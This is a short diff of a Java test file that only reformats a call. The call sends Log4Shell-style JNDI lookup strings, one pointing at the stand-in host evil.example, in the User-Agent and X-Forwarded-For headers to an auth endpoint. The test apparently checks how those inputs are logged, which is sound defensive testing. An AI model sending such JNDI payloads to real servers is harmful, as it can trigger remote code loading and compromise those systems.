@@ -194,11 +194,7 @@ class EventsTest {
             browser.post("/app/auth/verify", Map.of("_descope_csrf", csrf, field, hostile));
         }
         browser.get(
-                "/app/auth/verify?t=",
-                "User-Agent",
-                "x ${jndi:ldap://evil.example/a}",
-                "X-Forwarded-For",
-                "${jndi:x}");
+                "/app/auth/verify?t=", "User-Agent", "x ${jndi:ldap://evil.example/a}", "X-Forwarded-For", "${jndi:x}");
 
         assertThat(lines)
                 .isNotEmpty()
